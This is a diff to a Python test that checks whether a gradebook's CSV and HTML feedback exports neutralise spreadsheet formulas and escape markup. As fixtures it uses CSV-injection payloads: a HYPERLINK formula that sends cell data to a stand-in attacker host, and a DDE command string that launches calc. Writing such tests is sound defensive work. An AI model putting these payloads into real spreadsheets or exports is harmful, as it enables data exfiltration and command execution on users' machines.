@@ -101,10 +101,10 @@ def test_csv_cells_never_start_like_a_formula(value, numeric, expected):
 
 
 def test_the_gradebook_csvs_neutralise_formulas_but_feedback_keeps_answers_verbatim(tmp_path):
-    answer = '=HYPERLINK("http://evil.example/?"&A1, "click") <b>bold</b>'
+    answer = '=HYPERLINK("http://evil.example/?"&A1, "click") <b>bold</b>' + " and more" * 500  # longer than a message
     result = {"status": "needs-reading", "message": "", "score": 1.0, "max_score": 2.0, "cells": [], "questions": [
         {"question": "test_square", "score": 1.0, "max_score": 1.0, "status": "failed", "message": "@SUM(1+1)"},
-        {"question": "explain", "score": 0.0, "max_score": 1.0, "status": "needs-reading", "message": answer,
+        {"question": "explain", "score": 0.0, "max_score": 1.0, "status": "needs-reading", "message": answer[:2000],
          "answer": answer}]}
     book = Gradebook(LAB, tmp_path, Options())
     name = "-cmd|' /C calc'!A0"
@@ -117,7 +117,8 @@ def test_the_gradebook_csvs_neutralise_formulas_but_feedback_keeps_answers_verba
     summary = list(csv.DictReader(io.StringIO((tmp_path / "summary.csv").read_text())))
     assert summary[0]["score"] == "1.0" and summary[0]["submission"] == "'" + name
     html = (tmp_path / "feedback" / f"{name}.html").read_text()
-    assert "=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1, &quot;click&quot;) &lt;b&gt;bold&lt;/b&gt;" in html
+    assert ("=HYPERLINK(&quot;http://evil.example/?&quot;&amp;A1, &quot;click&quot;) &lt;b&gt;bold&lt;/b&gt;"
+            + " and more" * 500 + "</pre>") in html
     assert "'=HYPERLINK" not in html and "<b>bold" not in html
     assert feedback_html(name, "labdemo", result) == html
 
